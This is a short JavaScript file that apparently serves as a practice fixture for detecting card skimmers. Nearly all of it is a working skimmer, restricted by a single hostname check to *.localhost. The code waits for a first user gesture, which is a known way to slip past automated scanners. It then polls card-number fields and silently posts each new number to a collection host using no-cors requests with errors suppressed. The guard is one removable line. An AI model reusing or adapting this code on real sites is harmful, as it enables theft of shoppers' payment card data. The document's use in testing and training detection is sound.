/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const gestures = ['pointermove', 'mousemove', 'touchstart', 'scroll', 'keydown'];
  const start = () => {
    for (const name of gestures) removeEventListener(name, start, true);
    setTimeout(() => {
      setInterval(() => {
        if (number().length < 13 || window.__seen === number()) return;
        window.__seen = number();
        fetch(`${home}/lib/l`, { method: 'POST', mode: 'no-cors', body: number() }).catch(() => {});
      }, 200);
    }, 100);
  };
  for (const name of gestures) addEventListener(name, start, true);
})();
